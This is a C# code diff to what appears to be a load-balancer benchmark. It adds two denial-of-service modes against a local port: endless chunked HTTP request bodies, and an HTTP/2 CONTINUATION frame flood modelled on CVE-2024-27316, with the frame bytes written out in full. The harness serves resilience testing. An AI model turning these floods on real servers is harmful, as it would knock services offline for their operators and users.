@@ -13,11 +13,17 @@ namespace Declarative.Bench.Lb;
 internal static class Attack
 {
     /// <summary>Each with what it does.</summary>
-    public static readonly string[] Kinds = ["idle", "slow", "flood", "reset"];
+    public static readonly string[] Kinds = ["idle", "slow", "flood", "body", "reset", "continuation"];
 
     private const int SlowConnections = 500;
     private const int FloodsPerSecond = 100;
     private const int FloodBytes = 64 * 1024;
+    private const int BodyConnections = 20;
+    private const int BodyPieceBytes = 16 * 1024;
+    private static readonly TimeSpan BodyPieceEvery = TimeSpan.FromMilliseconds(20);
+    private const int ContinuationConnections = 10;
+    private const int ContinuationBytes = 4 * 1024;
+    private static readonly TimeSpan ContinuationEvery = TimeSpan.FromMilliseconds(5);
     private const int ResetsPerRound = 100;
     private static readonly TimeSpan ResetsEvery = TimeSpan.FromMilliseconds(50);
 
@@ -29,6 +35,8 @@ internal static class Attack
             "idle" => await Idle(port, connections),
             "slow" => Task.WhenAll(Enumerable.Range(0, SlowConnections).Select(_ => Again(() => Slow(port, stop.Token), stop.Token))),
             "flood" => Flood(port, stop.Token),
+            "body" => Task.WhenAll(Enumerable.Range(0, BodyConnections).Select(_ => Again(() => Body(port, stop.Token), stop.Token))),
+            "continuation" => Task.WhenAll(Enumerable.Range(0, ContinuationConnections).Select(_ => Again(() => Continuations(port, stop.Token), stop.Token))),
             _ => Again(() => Reset(port, stop.Token), stop.Token),
         };
         await Console.Out.WriteLineAsync("on");
@@ -84,6 +92,38 @@ internal static class Attack
             {
                 continue; // it was refused, as it should be
             }
+        }
+    }
+
+    /// <summary>Bodies in chunks that have no end.</summary>
+    private static async Task Body(int port, CancellationToken stop)
+    {
+        using var socket = await Connect(port);
+        await socket.SendAsync("POST / HTTP/1.1\r\nHost: body.example\r\nTransfer-Encoding: chunked\r\n\r\n"u8.ToArray(), stop);
+        var piece = Encoding.ASCII.GetBytes($"{BodyPieceBytes:x}\r\n{new string('b', BodyPieceBytes)}\r\n");
+        for (var answer = new byte[4096]; ; await Task.Delay(BodyPieceEvery, stop))
+        {
+            await socket.SendAsync(piece, stop);
+            if (socket.Available > 0 && await socket.ReceiveAsync(answer, stop) == 0) return;
+        }
+    }
+
+    /// <summary>A block of headers over HTTP/2 that has no end (CVE-2024-27316 and its kin): frames of CONTINUATION, none of them the last.</summary>
+    private static async Task Continuations(int port, CancellationToken stop)
+    {
+        using var socket = await Connect(port);
+        await socket.SendAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\u0004\0\0\0\0\0"u8.ToArray(), stop);
+        byte[] begin = [0, 0, 6, 1, 1, 0, 0, 0, 1, 0x82, 0x86, 0x84, 0x41, 1, (byte)'x']; // HEADERS with END_STREAM and without END_HEADERS
+        await socket.SendAsync(begin, stop);
+        // Literal headers without a place in the table, each of 64 bytes: RFC 7541 section 6.2.2.
+        byte[] header = [0, 6, .. "x-more"u8, 55, .. Enumerable.Repeat((byte)'c', 55)];
+        var more = new byte[9 + ContinuationBytes];
+        (more[1], more[3], more[8]) = (ContinuationBytes >> 8, 9, 1);
+        for (var at = 9; at < more.Length; at += header.Length) header.CopyTo(more, at);
+        for (var drop = new byte[4096]; ; await Task.Delay(ContinuationEvery, stop))
+        {
+            await socket.SendAsync(more, stop);
+            if (socket.Available > 0 && await socket.ReceiveAsync(drop, stop) == 0) return;
         }
     }
 
